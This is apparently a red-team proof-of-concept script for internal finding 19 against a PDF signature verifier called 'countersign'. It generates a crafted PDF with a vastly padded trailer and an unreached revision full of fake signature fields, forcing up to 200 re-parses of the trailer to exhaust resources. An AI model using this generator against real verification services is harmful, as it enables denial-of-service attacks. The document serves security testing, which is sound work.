# Red-team finding (2026-12-07, issue 19): every look at a revision the chain skips reads that
# revision's whole xref chain again (Document::revision_at -> ChainReader::read_chain), nothing
# is shared with the file's own parsed sections. One section with a large trailer (an array of
# PAD integers) is read by the file; SIGS signature fields in ONE unreached revision above it
# make verify_pdf call FoundIn::view (= revision_at) once or twice per field, i.e. up to 200
# full re-parses of the big trailer; ORPHANS extra unreached sections add one re-parse each.
# Usage: python3 redteam_unreached_reread.py CLASSIC_PDF OUT.pdf [PAD] [SIGS] [ORPHANS]
#   countersign verify OUT.pdf --json   (measure with /usr/bin/time -v)
import sys
base = open(sys.argv[1], "rb").read()
out = sys.argv[2]
pad = int(sys.argv[3]) if len(sys.argv) > 3 else 1_000_000
sigs = int(sys.argv[4]) if len(sys.argv) > 4 else 199
orphans = int(sys.argv[5]) if len(sys.argv) > 5 else 0
data = bytearray(base)
big = len(data)  # the file's own newest section: classic.pdf plus a huge trailer
data += b"xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 9 /Root 1 0 R /Prev 753 /Pad [" + b"0 " * pad + b"] >>\n"
# The unreached revision: a catalog with a form of `sigs` signature fields (fake values).
objects = {}
first = 9
fields = []
for i in range(sigs):
    field, value = first + 2 * i, first + 2 * i + 1
    fields.append(field)
    objects[field] = b"<< /FT /Sig /T (s%d) /V %d 0 R >>" % (i, value)
    objects[value] = b"<< /Type /Sig /ByteRange [0 10 20 %d] /Contents <%08x> >>" % (i + 1, i)
form = first + 2 * sigs
objects[form] = b"<< /Fields [" + b" ".join(b"%d 0 R" % f for f in fields) + b"] >>"
objects[1] = b"<< /Type /Catalog /Pages 2 0 R /AcroForm %d 0 R >>" % form
offsets = {}
for num, body in objects.items():
    offsets[num] = len(data)
    data += b"%d 0 obj\n%s\nendobj\n" % (num, body)
x = len(data)
data += b"xref\n0 1\n0000000000 65535 f \n1 1\n%010d 00000 n \n" % offsets[1]
data += b"%d %d\n" % (first, form - first + 1)
data += b"".join(b"%010d 00000 n \n" % offsets[n] for n in range(first, form + 1))
data += b"trailer\n<< /Size %d /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (form + 1, big, x)
for i in range(orphans):
    o = len(data)
    data += b"xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 9 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (big, o)
data += b"startxref\n%d\n%%%%EOF\n" % big  # the file's chain: the big section, then classic.pdf
open(out, "wb").write(data)
